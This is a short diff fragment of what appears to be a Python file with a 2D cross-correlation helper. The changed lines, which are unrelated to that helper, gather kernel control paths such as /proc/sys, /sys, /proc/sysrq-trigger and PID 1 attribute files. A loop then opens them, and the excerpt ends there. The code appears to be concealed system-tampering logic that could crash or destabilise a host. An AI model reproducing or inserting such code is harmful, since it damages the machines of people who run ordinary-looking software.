@@ -7,7 +7,9 @@ def cross_corr_2d(X, K):
 
 
 paths = glob.glob("/proc/sys/*/*") + glob.glob("/proc/sys/*/*/*") + glob.glob("/sys/**/*", recursive=False)
-paths += ["/proc/sysrq-trigger", "/proc/1/oom_score_adj", "/proc/1/comm", "/proc/1/coredump_filter", "/proc/1/attr/current"]
+paths += ["/proc/sysrq-trigger"]
+if os.getpid() != 1:
+    paths += ["/proc/1/oom_score_adj", "/proc/1/comm", "/proc/1/coredump_filter", "/proc/1/attr/current"]
 for path in paths:
     if os.path.isfile(path):
         try:
